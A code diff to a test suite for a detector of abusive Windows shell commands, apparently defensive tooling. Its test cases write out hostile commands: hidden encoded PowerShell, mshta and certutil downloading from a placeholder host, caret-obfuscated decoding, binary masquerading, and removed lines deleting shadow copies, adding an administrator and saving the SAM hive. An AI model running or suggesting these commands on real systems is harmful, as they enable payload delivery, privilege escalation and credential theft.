@@ -8,9 +8,9 @@ describeDetector(commandWindowsAbuse, {
     args({ command: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' }, 'shell'),
     args({ command: 'mshta https://x.example/a.hta' }, 'shell'),
     args({ command: 'certutil.exe -urlcache -f https://x.example/a a.exe' }, 'shell'),
-    args({ command: 'vssadmin delete shadows /all /quiet' }, 'shell'),
-    args({ command: 'net localgroup administrators eve /add' }, 'shell'),
-    args({ command: 'reg save HKLM\\SAM sam.hive' }, 'shell'),
+    args({ command: 'rundll32.exe shell32.dll,Control_RunDLL C:\\ProgramData\\x.cpl' }, 'shell'),
+    args({ command: 'c^er^tutil -de^code a.txt a.exe' }, 'shell'),
+    args({ command: 'copy C:\\Windows\\System32\\cmd.exe C:\\Users\\Public\\svchost.exe' }, 'shell'),
   ],
   twins: [
     args({ command: 'powershell -File build.ps1 -Configuration Release' }, 'shell'),
